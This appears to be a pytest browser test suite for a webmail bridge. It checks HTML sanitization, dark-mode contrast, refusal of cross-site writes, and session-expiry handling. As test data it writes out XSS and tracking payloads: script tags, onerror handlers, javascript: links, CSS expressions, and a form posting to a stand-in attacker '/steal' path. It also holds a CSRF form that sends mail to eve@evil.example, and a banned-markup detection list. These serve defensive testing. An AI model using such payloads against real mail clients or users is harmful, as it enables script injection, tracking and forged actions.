"""Hostile mail in the real browser (issue 10): it runs nothing and loads nothing.

A message built to attack its reader (script, event handlers, ``javascript:`` links,
CSS expressions and ``url()``, remote images, frames, forms, meta refresh, SVG) is
opened in headless Chromium. A page-level ``dialog`` handler records any ``alert``; the
page's request log and a real HTTP server standing in for the attacker's host show that
nothing was fetched from anywhere but the bridge itself.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from browser import open_phone
from playwright.sync_api import Browser, Locator, Page, expect
from web_hosted import PASSWORDS, WebHosted, running_server


class Attacker:
    """An HTTP server that records every request: nothing may reach it."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        attacker = self

        class Record(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                attacker.requests.append(self.path)
                self.send_response(200)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def hosted(tmp_path: Path) -> Iterator[WebHosted]:
    with running_server(tmp_path, users=("alice",)) as server:
        yield server


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    try:
        yield server
    finally:
        server.stop()


def hostile_html(remote: str) -> str:
    return f"""<html><head>
<meta http-equiv="refresh" content="0;url={remote}/meta">
<link rel="stylesheet" href="{remote}/link.css">
<style>body {{ background: url({remote}/style.png) }}</style>
<script>alert("script tag")</script>
<script src="{remote}/evil.js"></script>
<base href="{remote}/">
</head><body onload="alert('body onload')">
<p onclick="alert('onclick')" style="color: red">Hello from the hostile mail</p>
<img src="{remote}/tracker.png" onerror="alert('img onerror')">
<img src="x" onerror="alert('broken img')">
<a href="javascript:alert('javascript link')">Click me</a>
<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">Data link</a>
<div style="background-image: url({remote}/bg.png); width: expression(alert('css'))">styled</div>
<svg onload="alert('svg')"><image href="{remote}/svg.png"/></svg>
<iframe src="{remote}/frame"></iframe>
<object data="{remote}/object"></object>
<form action="{remote}/steal" method="post"><input name="q" value="x"><button>Go</button></form>
<a href="https://example.org/page">A normal link</a>
</body></html>"""


def hostile_message(remote: str) -> str:
    boundary = "b0undary"
    return (
        f"--{boundary}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        f"{hostile_html(remote)}\r\n"
        f"--{boundary}\r\nContent-Type: application/pdf\r\n"
        'Content-Disposition: attachment; filename="invoice.pdf"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n"
        f"--{boundary}--\r\n"
    )


def test_hostile_html_runs_nothing_and_loads_nothing(
    hosted: WebHosted,
    attacker: Attacker,
    chromium: Browser,
) -> None:
    hosted.deliver(
        1,
        subject="<script>alert('subject')</script> Invoice",
        sender="\"<img src=x onerror=alert('from')>\" <mallory@example.net>",
        content_type='multipart/mixed; boundary="b0undary"',
        body=hostile_message(attacker.url),
    )
    phone = open_phone(chromium, hosted.url)
    try:
        page = phone.page
        phone.login("alice", PASSWORDS["alice"])
        row = page.locator("ul.messages li").first
        expect(row).to_contain_text("<script>alert('subject')</script> Invoice")  # as text
        row.locator("a").click()
        expect(body_text(page, "Hello from the hostile mail")).to_be_visible()
        expect(page.locator(".attachments")).to_contain_text("invoice.pdf · application/pdf · 9")
        expect(page.locator(".note")).to_contain_text("2 image(s) not loaded")
        body = page.locator(".body.html")
        markup = body.inner_html()
        for banned in ("<script", "onload", "onclick", "onerror", "<iframe", "<form", "<img",
                       "<svg", "<object", "<style", "<meta", "<link", "<base", "style=",
                       "javascript:", "data:", "expression"):  # fmt: skip
            assert banned not in markup.lower(), banned
        body_text(page, "Hello from the hostile mail").click()
        body_text(page, "Click me").click()  # its href was taken out: it goes nowhere
        body_text(page, "Data link").click()
        safe = body_text(page, "A normal link")
        expect(safe).to_have_attribute("rel", "noopener noreferrer nofollow")
        expect(safe).to_have_attribute("href", "https://example.org/page")
        page.wait_for_timeout(500)  # a late onerror or refresh would have fired by now
        assert phone.dialogs == []
        assert attacker.requests == []
        assert all(url.startswith(hosted.url + "/") for url in phone.requests), phone.requests
        assert page.url.startswith(hosted.url + "/messages/")
    finally:
        phone.context.close()


def body_text(page: Page, text: str) -> Locator:
    return page.locator(".body.html").get_by_text(text, exact=True)


def test_dark_mode_is_readable(hosted: WebHosted, chromium: Browser) -> None:
    hosted.deliver(1, subject="Read at night")
    phone = open_phone(chromium, hosted.url, color_scheme="dark")
    try:
        page = phone.page
        phone.login("alice", PASSWORDS["alice"])
        expect(page.locator("ul.messages")).to_contain_text("Read at night")
        background = page.evaluate("getComputedStyle(document.body).backgroundColor")
        text = page.locator(".messages .subject").evaluate("e => getComputedStyle(e).color")
        assert luminance(background) < 0.1 < 0.6 < luminance(text), (background, text)
        phone.screenshot("inbox-dark-360.png")
    finally:
        phone.context.close()


def luminance(css: str) -> float:
    """Relative luminance (WCAG) of ``rgb(r, g, b)``."""
    channels = [int(v) / 255 for v in css[css.index("(") + 1 : css.index(")")].split(",")[:3]]
    linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def test_a_foreign_page_cannot_write_with_the_browsers_basic_credentials(
    hosted: WebHosted, attacker: Attacker, chromium: Browser
) -> None:
    """Basic credentials a browser holds (typed into its 401 dialog) go with every
    request to the bridge, a foreign page's form too, and SameSite does not cover them:
    a text/plain form can post valid JSON. Writes from another site are refused."""
    hosted.deliver(1)
    context = chromium.new_context(
        ignore_https_errors=True,
        http_credentials={"username": "alice", "password": PASSWORDS["alice"]},
    )
    try:
        page = context.new_page()
        page.goto(hosted.url + "/api/mailbox")  # the browser now holds the credentials
        (item,) = json.loads(page.inner_text("body"))["inbox"]
        forms = [("/api/compose", '{"to": ["eve@evil.example"], "via_desktop": true, "x": "', '"}'),
                 (f"/api/messages/{item['id']}/destroy", "x", "y")]  # fmt: skip
        for path, name, value in forms:
            page.goto(attacker.url + "/")  # the attacker's page, on its own site
            page.set_content(
                f'<form method="post" action="{hosted.url}{path}" enctype="text/plain">'
                f"<input name='{name}' value='{value}'><button>Win a prize</button></form>"
            )
            with page.expect_navigation():
                page.click("button")
            assert page.url == hosted.url + path  # the browser did send it
            assert json.loads(page.inner_text("body")) == {"error": "cross-site request refused"}
    finally:
        context.close()
    mailbox = hosted.client().request("GET", "/api/mailbox", basic=("alice", PASSWORDS["alice"]))
    assert mailbox.json()["outbox"] == [] and mailbox.json()["inbox"] == [item]


def test_a_live_update_after_the_session_ended_goes_to_the_login_page(
    hosted: WebHosted, chromium: Browser
) -> None:
    """The list the script fetches is then the login form (after a redirect): it must not
    be swapped into the inbox; the whole page goes to the login instead."""
    phone = open_phone(chromium, hosted.url)
    try:
        page = phone.page
        phone.login("alice", PASSWORDS["alice"])
        expect(page.locator("#live")).to_contain_text("Nothing here.")
        page.wait_for_timeout(500)  # the event stream is open
        phone.context.clear_cookies()  # the browser forgot the session (expired, cleared)
        hosted.deliver(1, subject="After the cookie")
        page.wait_for_url("**/login")
        expect(page.locator("input[name=password]")).to_have_count(1)
        expect(page.locator("#live")).to_have_count(0)
    finally:
        phone.context.close()
